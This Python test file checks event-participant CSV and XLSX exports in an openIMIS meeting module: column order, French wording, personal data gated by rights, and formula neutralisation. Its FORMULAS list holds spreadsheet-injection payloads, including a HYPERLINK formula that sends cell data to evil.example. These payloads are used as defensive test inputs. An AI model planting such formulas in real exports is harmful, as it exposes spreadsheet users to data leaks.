"""Exports over HTTP (/api/openimis_be_meeting/...csv|xlsx): columns in their documented order, values in words
with the event's offset, personal data only with its right, formulas neutralised, rights and refusals as JSON,
rows streamed with a fixed number of queries."""

import csv
import io
from datetime import datetime, timedelta

import openpyxl
import pytest
from django.db import connection
from django.http import StreamingHttpResponse
from django.test.utils import CaptureQueriesContext

from openimis_be_meeting.formats.tables.base import neutralise
from openimis_be_meeting.models import Participant
from openimis_be_meeting.services import OrganisationService

from factories import PASSWORD, make_user, open_event, register
from frontend import logged_in, rest_get
from showcase_setup import ok

BASE_HEADER = [
    "ID",
    "Last name",
    "First name",
    "Organisation",
    "Organisation acronym",
    "Organisation type",
    "Job title",
    "Country",
    "Country name",
    "Role",
    "Participation mode",
    "Status",
    "Waiting-list position",
    "Registered at",
    "Status changed at",
    "Agrees to be listed",
    "Agrees to photos",
    "Agrees to be contacted",
    "Rejection reason",
]
PERSONAL_HEADER = ["Email", "Phone", "Gender", "Accessibility needs", "Dietary needs", "Check-in code"]
SHOWCASE_HEADER = [
    "ID",
    "Title",
    "Status",
    "Lead organisation",
    "Partner organisations",
    "Presenters",
    "Scheme",
    "Scheme type",
    "Use cases",
    "Countries",
    "Country names",
    "Demo type",
    "Starts at",
    "Ends at",
    "Integrations",
    "Media links",
    "Abstract",
    "Decision note",
    "Review round",
    "Status changed at",
]
DECISION_HEADER = ["Reviews (current round)", "Mean score (current round)"]
AGENDA_HEADER = [
    "ID",
    "Starts at",
    "Ends at",
    "Title",
    "Type",
    "Room",
    "Languages",
    "Interpretation into",
    "Capacity",
    "Speakers",
    "Chairs",
    "Showcases",
    "Description",
]
PAIR_HEADER = [
    "System A",
    "System A type",
    "System B",
    "System B type",
    "Standards",
    "Directions",
    "Best evidence level",
    "Showcases",
    "Showcase IDs",
    "Progress by event",
]
SYSTEM_STANDARD_HEADER = [
    "System",
    "System type",
    "Standard",
    "Standard name",
    "Best evidence level",
    "Showcases",
    "Showcase IDs",
    "Progress by event",
]
FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"Click")', "+1", "-2", "@SUM(A1:A9)"]
XLSX = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


# -- helpers --------------------------------------------------------------------------------------------------------


def body(response) -> bytes:
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    data = body(response)
    assert data.startswith(b"\xef\xbb\xbf")  # the byte order mark Excel needs for UTF-8
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))


def xlsx_sheet(response):
    assert response.status_code == 200, response.content
    assert response["Content-Type"] == XLSX
    return openpyxl.load_workbook(io.BytesIO(body(response))).active


def xlsx_rows(response) -> list[list]:
    return [list(row) for row in xlsx_sheet(response).iter_rows(values_only=True)]


def as_dicts(rows) -> list[dict]:
    header, *data = rows
    return [dict(zip(header, row, strict=True)) for row in data]


def refusal(response, status: int, code: str, field=None):
    assert response.status_code == status, body(response)
    assert response["Content-Type"] == "application/json"
    payload = response.json()
    assert (payload["code"], payload["field"]) == (code, field), payload
    assert payload["message"]
    return payload


def count_queries(session, path, **params) -> int:
    with CaptureQueriesContext(connection) as captured:
        response = rest_get(session, path, **params)
        assert response.status_code == 200
        body(response)
    return len(captured.captured_queries)


def is_iso_in_douala(text: str) -> bool:
    return text.endswith("+01:00") and datetime.fromisoformat(text).utcoffset() == timedelta(hours=1)


# -- participants ---------------------------------------------------------------------------------------------------


@pytest.fixture
def event(admin):
    """An open event in Yaoundé (Africa/Douala, UTC+1) with two seats: two confirmed people, the rest waitlisted."""
    event = open_event(admin, capacity=2)
    organisation = ok(
        OrganisationService(admin).create(
            {"name": "Ministère de la Santé Publique", "acronym": "MINSANTE", "organisation_type": "MINISTRY"}
        )
    )
    ok(
        register(
            admin,
            event,
            1,
            first_name="Amina",
            last_name="Bello",
            phone="+237 699 00 00 01",
            gender="FEMALE",
            organisation_id=organisation,
            job_title="Cheffe de service",
            country="CM",
            role="SPEAKER",
            consent_listed=True,
            dietary_needs="Halal",
            accessibility_needs="Wheelchair access",
        )
    )
    ok(register(admin, event, 2, first_name="Éloïse", last_name="Ngono"))
    for number, name in enumerate(FORMULAS, start=3):
        ok(register(admin, event, number, first_name=name, last_name="Zz" + str(number)))
    return event


def participants(session, event, extension="csv", **params):
    return rest_get(session, f"events/{event.id}/participants.{extension}", **params)


@pytest.mark.django_db
def test_participants_csv_without_the_personal_data_right_has_no_personal_columns(event):
    make_user("Registrar", rights=["216001"])
    response = participants(logged_in("Registrar", PASSWORD), event)

    assert isinstance(response, StreamingHttpResponse)
    assert response["Content-Disposition"] == 'attachment; filename="cm-yaounde-participants.csv"'
    assert response["Cache-Control"] == "private, no-store"
    rows = csv_rows(response)
    assert rows[0] == BASE_HEADER
    amina, eloise, *formulas = as_dicts(rows)
    stored = Participant.objects.get(email="person1@example.cm")
    assert amina == {
        **amina,
        "ID": str(stored.id),
        "Last name": "Bello",
        "First name": "Amina",
        "Organisation": "Ministère de la Santé Publique",
        "Organisation acronym": "MINSANTE",
        "Organisation type": "Ministry",
        "Job title": "Cheffe de service",
        "Country": "CM",
        "Role": "Speaker",
        "Participation mode": "In person",
        "Status": "Confirmed",
        "Waiting-list position": "",
        "Agrees to be listed": "yes",
        "Agrees to photos": "no",
        "Agrees to be contacted": "no",
        "Rejection reason": "",
    }
    assert is_iso_in_douala(amina["Registered at"])
    assert (
        amina["Registered at"] == (stored.registered_at + timedelta(hours=1)).isoformat(timespec="seconds") + "+01:00"
    )
    assert (eloise["First name"], eloise["Status"]) == ("Éloïse", "Confirmed")
    assert [(row["Status"], row["Waiting-list position"]) for row in formulas] == [
        ("Waiting list", str(position)) for position in (1, 2, 3, 4)
    ]
    text = body(participants(logged_in("Registrar", PASSWORD), event)).decode("utf-8-sig")
    assert "@example.cm" not in text and "+237" not in text and "Halal" not in text and stored.checkin_token not in text


@pytest.mark.django_db
def test_participants_csv_with_the_personal_data_right_ends_with_the_personal_columns(event):
    make_user("Organiser", rights=["216001", "216006"])
    rows = csv_rows(participants(logged_in("Organiser", PASSWORD), event))

    assert rows[0] == BASE_HEADER + PERSONAL_HEADER
    amina = as_dicts(rows)[0]
    stored = Participant.objects.get(email="person1@example.cm")
    assert {key: amina[key] for key in PERSONAL_HEADER} == {
        "Email": "person1@example.cm",
        "Phone": "'+237 699 00 00 01",  # a leading + would start a formula
        "Gender": "Female",
        "Accessibility needs": "Wheelchair access",
        "Dietary needs": "Halal",
        "Check-in code": stored.checkin_token,
    }
    assert as_dicts(rows)[1]["Gender"] == ""


@pytest.mark.django_db
def test_participants_xlsx_both_ways_read_back_with_openpyxl(event):
    make_user("Registrar", rights=["216001"])
    make_user("Organiser", rights=["216001", "216006"])

    response = participants(logged_in("Registrar", PASSWORD), event, "xlsx")
    assert response["Content-Disposition"] == 'attachment; filename="cm-yaounde-participants.xlsx"'
    sheet = xlsx_sheet(response)
    rows = [list(row) for row in sheet.iter_rows(values_only=True)]
    assert rows[0] == BASE_HEADER
    assert sheet.freeze_panes == "A2"
    amina = as_dicts(rows)[0]
    assert (amina["Status"], amina["Role"], amina["Agrees to be listed"], amina["Waiting-list position"]) == (
        "Confirmed",
        "Speaker",
        "yes",
        None,
    )
    assert is_iso_in_douala(amina["Registered at"])
    assert [row["Waiting-list position"] for row in as_dicts(rows)[2:]] == [1, 2, 3, 4]  # numbers stay numbers

    rows = xlsx_rows(participants(logged_in("Organiser", PASSWORD), event, "xlsx"))
    assert rows[0] == BASE_HEADER + PERSONAL_HEADER
    assert as_dicts(rows)[0]["Email"] == "person1@example.cm"


@pytest.mark.django_db
def test_formulas_are_neutralised_in_csv_and_xlsx(event, admin):
    session = logged_in("Admin", PASSWORD)
    expected = ["'" + formula for formula in FORMULAS]

    csv_names = [row["First name"] for row in as_dicts(csv_rows(participants(session, event)))[2:]]
    assert csv_names == expected

    sheet = xlsx_sheet(participants(session, event, "xlsx"))
    cells = [row[2] for row in sheet.iter_rows(min_row=4)]
    # Issue 14: the workbook holds the exact text, typed as text, instead of relying on an apostrophe.
    assert [cell.value for cell in cells] == FORMULAS
    assert {cell.data_type for cell in cells} == {"s"}  # text, never a formula ("f")
    assert {cell.number_format for cell in cells} == {"@"}


def test_neutralise_covers_every_formula_start():
    for text in ("=1+1", "+1", "-2", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "  =1+1"):
        assert neutralise(text) == "'" + text
    for text in ("Amina", "2026-12-25T10:00:00+01:00", "a=b", "", "'quoted"):
        assert neutralise(text) == text


@pytest.mark.django_db
def test_xlsx_drops_characters_a_workbook_cannot_hold(event, admin):
    Participant.objects.filter(email="person2@example.cm").update(dietary_needs="Veg\x01etarian\x0b", job_title="A\tB")
    rows = as_dicts(xlsx_rows(participants(logged_in("Admin", PASSWORD), event, "xlsx")))

    assert (rows[1]["Dietary needs"], rows[1]["Job title"]) == ("Vegetarian", "A\tB")


@pytest.mark.django_db
def test_participant_filters_mirror_graphql_and_bad_values_are_refused(event, admin):
    session = logged_in("Admin", PASSWORD)

    def names(**params):
        return [row["First name"] for row in as_dicts(csv_rows(participants(session, event, **params)))]

    assert names(status="CONFIRMED") == ["Amina", "Éloïse"]
    assert len(names(status="WAITLISTED,CONFIRMED")) == 6
    assert len(names(status=["WAITLISTED", "PENDING"])) == 4
    assert names(role="SPEAKER") == ["Amina"]
    assert names(country="cm") == ["Amina"]
    assert names(organisationType="MINISTRY") == ["Amina"]
    assert names(search="person2@example") == ["Éloïse"]  # email search with the personal-data right
    make_user("Registrar", rights=["216001"])
    registrar = logged_in("Registrar", PASSWORD)
    assert as_dicts(csv_rows(participants(registrar, event, search="person2@example"))) == []

    for params, field, code in [
        ({"status": "CONFIRMED,BOGUS"}, "status", "meeting.validation.invalid_choice"),
        ({"role": "KING"}, "role", "meeting.validation.invalid_choice"),
        ({"attendanceMode": "TELEPATHY"}, "attendanceMode", "meeting.validation.invalid_choice"),
        ({"organisationId": "not-an-id"}, "organisationId", "meeting.validation.invalid_id"),
        ({"country": "XX"}, "country", "meeting.validation.unknown_country"),
        ({"search": "x" * 101}, "search", "meeting.validation.too_long"),
        ({"language": "de"}, "language", "meeting.validation.invalid_choice"),
    ]:
        for extension in ("csv", "xlsx"):
            refusal(participants(session, event, extension, **params), 400, code, field)


@pytest.mark.django_db
def test_words_follow_the_language_asked_or_the_users_openimis_language(event, admin):
    session = logged_in("Admin", PASSWORD)
    rows = as_dicts(csv_rows(participants(session, event, language="fr")))
    assert (rows[0]["Status"], rows[0]["Role"], rows[0]["Organisation type"], rows[0]["Agrees to be listed"]) == (
        "Confirmé",
        "Intervenant",
        "Ministère",
        "oui",
    )
    assert rows[0]["Agrees to photos"] == "non"
    assert rows[2]["Status"] == "Liste d'attente"
    assert list(rows[0])[:3] == BASE_HEADER[:3]  # headers stay in English: scripts rely on them

    make_user("Amadou", rights=["216001"], language="fr")
    french = as_dicts(csv_rows(participants(logged_in("Amadou", PASSWORD), event)))
    assert french[0]["Status"] == "Confirmé"
    english = as_dicts(csv_rows(participants(logged_in("Amadou", PASSWORD), event, language="en")))
    assert english[0]["Status"] == "Confirmed"
    payload = refusal(
        rest_get(logged_in("Amadou", PASSWORD), f"events/{event.id}/agenda.csv"), 403, "meeting.auth.permission_denied"
    )
    assert payload["message"] == "Vous n'avez pas le droit de faire cela."
    payload = refusal(
        participants(logged_in("Amadou", PASSWORD), event, role="KING"),
        400,
        "meeting.validation.invalid_choice",
        "role",
    )
    assert payload["message"] == "KING n'est pas une valeur valide pour role."
